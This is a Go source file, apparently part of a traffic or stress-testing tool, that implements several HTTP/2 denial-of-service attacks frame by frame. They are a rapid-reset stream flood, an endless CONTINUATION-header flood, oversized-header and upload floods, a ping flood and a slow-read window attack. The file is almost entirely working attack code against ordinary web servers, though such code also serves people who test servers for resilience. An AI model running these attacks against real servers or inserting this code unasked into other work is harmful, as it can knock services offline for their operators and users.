package traffic

import (
	"bytes"
	"context"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker is one connection of HTTP/2 that an attack uses frame by frame. One goroutine reads, one writes; what both
// write is locked.
type attacker struct {
	Attack
	*connection
	report *Report
	framer *http2.Framer

	lock    sync.Mutex
	block   bytes.Buffer
	encoder *hpack.Encoder
	settled chan struct{} // closed when the server has sent its settings
	allowed uint32
	opened  []uint32
	// What the server takes of a body: on the connection, and on each stream.
	window, initial int64
	windows         map[uint32]int64
	more            chan struct{}
}

// frames runs an attack on one connection.
func (a Attack) frames(ctx context.Context, c *connection, report *Report) error {
	one := &attacker{
		Attack: a, connection: c, report: report, framer: http2.NewFramer(c.Conn, c.reader),
		settled: make(chan struct{}), more: make(chan struct{}, 1), window: initialWindow, initial: initialWindow, windows: map[uint32]int64{},
	}
	one.encoder = hpack.NewEncoder(&one.block)
	one.encoder.SetMaxDynamicTableSize(0)
	one.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	settings := []http2.Setting{{ID: http2.SettingEnablePush}}
	if a.Kind == "window" {
		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize, Val: a.Window})
	}
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	if err := one.framer.WriteSettings(settings...); err != nil {
		return err
	}
	if err := one.framer.WriteWindowUpdate(0, ourWindow); err != nil {
		return err
	}
	if a.Kind == "ping" {
		return one.ping()
	}
	ended := make(chan error, 2)
	go func() { ended <- one.read() }()
	go func() {
		select {
		case <-one.settled:
		case <-ctx.Done():
			return
		}
		if err := one.write(ctx); err != nil {
			ended <- err
		}
	}()
	select {
	case err := <-ended:
		return err
	case <-ctx.Done():
		return nil
	}
}

func (a *attacker) write(ctx context.Context) error {
	streams := a.Streams
	if streams == 0 {
		streams = int(min(a.allowed, 2000))
	}
	switch a.Kind {
	case "window":
		return a.ask(ctx, streams)
	case "reset":
		return a.reset(ctx, streams)
	case "headers":
		for range streams {
			if err := a.open(false, [2]string{"x-large", strings.Repeat("a", a.Bytes)}); err != nil {
				return err
			}
		}
	case "continuation":
		return a.endless()
	case "upload":
		return a.upload(ctx, streams)
	}
	return nil
}

// open begins a request on the next stream.
func (a *attacker) open(end bool, more ...[2]string) error {
	method := a.method()
	all := [][2]string{}
	if a.GRPC {
		method = http.MethodPost
		all = append(all, [2]string{"content-type", "application/grpc"}, [2]string{"te", "trailers"})
	}
	scheme := "http"
	if a.facts.TLSVersion != "" {
		scheme = "https"
	}
	all = append([][2]string{{":method", method}, {":scheme", scheme}, {":authority", a.host()}, {":path", a.target()}}, append(all, more...)...)
	a.lock.Lock()
	defer a.lock.Unlock()
	a.block.Reset()
	for _, field := range all {
		a.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	id := uint32(2*len(a.opened) + 1)
	a.opened = append(a.opened, id)
	a.windows[id] = a.initial
	length := int64(a.block.Len())
	fragment := a.block.Next(frameSize)
	err := a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fragment, EndStream: end && !a.GRPC, EndHeaders: a.block.Len() == 0})
	for err == nil && a.block.Len() > 0 {
		fragment = a.block.Next(frameSize)
		err = a.framer.WriteContinuation(id, a.block.Len() == 0, fragment)
	}
	if err == nil && a.GRPC {
		err = a.framer.WriteData(id, end, grpcFrame(a.Body))
	}
	a.report.count(func() { a.report.Streams, a.report.Sent = a.report.Streams+1, a.report.Sent+length })
	return err
}

// ask sends a request on each stream, and reads at most a part of the answers.
func (a *attacker) ask(ctx context.Context, streams int) error {
	for range streams {
		if err := a.open(true); err != nil {
			return err
		}
	}
	if a.Drip == 0 {
		return nil
	}
	for ticker := time.NewTicker(time.Second); ; {
		select {
		case <-ctx.Done():
			ticker.Stop()
			return nil
		case <-ticker.C:
		}
		for _, id := range a.opened {
			if err := a.locked(func() error { return a.framer.WriteWindowUpdate(id, a.Drip) }); err != nil {
				return err
			}
		}
	}
}

func (a *attacker) locked(write func() error) error {
	a.lock.Lock()
	defer a.lock.Unlock()
	return write()
}

// reset opens streams and resets them.
func (a *attacker) reset(ctx context.Context, streams int) error {
	ticker := time.NewTicker(max(a.Every, time.Millisecond))
	defer ticker.Stop()
	for wave := range max(1, a.Waves) {
		first := wave * streams
		for range streams {
			if err := a.open(true); err != nil {
				return err
			}
			if a.Delay == 0 {
				if err := a.cancel(a.opened[len(a.opened)-1]); err != nil {
					return err
				}
			}
		}
		if a.Delay > 0 {
			if !rest(ctx, a.Delay) {
				return nil
			}
			for _, id := range a.opened[first:] {
				if err := a.cancel(id); err != nil {
					return err
				}
			}
		}
		select {
		case <-ticker.C:
		case <-ctx.Done():
			return nil
		}
	}
	return nil
}

func rest(ctx context.Context, d time.Duration) bool {
	select {
	case <-time.After(d):
		return true
	case <-ctx.Done():
		return false
	}
}

func (a *attacker) cancel(id uint32) error {
	return a.locked(func() error { return a.framer.WriteRSTStream(id, http2.ErrCodeCancel) })
}

// endless begins a header and goes on with it.
func (a *attacker) endless() error {
	a.block.Reset()
	for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", a.host()}, {":path", a.target()}} {
		a.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	begin := http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.block.Bytes(), EndStream: true}
	if err := a.locked(func() error { return a.framer.WriteHeaders(begin) }); err != nil {
		return err
	}
	a.report.count(func() { a.report.Streams++ })
	for n := 0; ; n++ {
		a.block.Reset()
		a.encoder.WriteField(hpack.HeaderField{Name: "x-" + strconv.Itoa(n), Value: strings.Repeat("a", 8000)})
		a.report.count(func() { a.report.Sent += int64(a.block.Len()) })
		if err := a.locked(func() error { return a.framer.WriteContinuation(1, false, a.block.Bytes()) }); err != nil {
			return err
		}
	}
}

// upload sends on all streams what the server takes.
func (a *attacker) upload(ctx context.Context, streams int) error {
	for range streams {
		if err := a.open(false); err != nil {
			return err
		}
	}
	data := make([]byte, frameSize)
	for {
		sent := false
		for _, id := range a.opened {
			a.lock.Lock()
			size := min(int64(len(data)), a.windows[id], a.window)
			var err error
			if size > 0 {
				sent = true
				a.windows[id] -= size
				a.window -= size
				err = a.framer.WriteData(id, false, data[:size])
				a.report.count(func() { a.report.Sent += size })
			}
			a.lock.Unlock()
			if err != nil {
				return err
			}
		}
		if sent {
			continue
		}
		select {
		case <-a.more:
		case <-ctx.Done():
			return nil
		}
	}
}

// ping requests acknowledgements as fast as the connection allows, and reads nothing.
func (a *attacker) ping() error {
	for {
		if err := a.framer.WritePing(false, [8]byte{}); err != nil {
			return err
		}
		a.report.count(func() { a.report.Sent += 17 })
	}
}
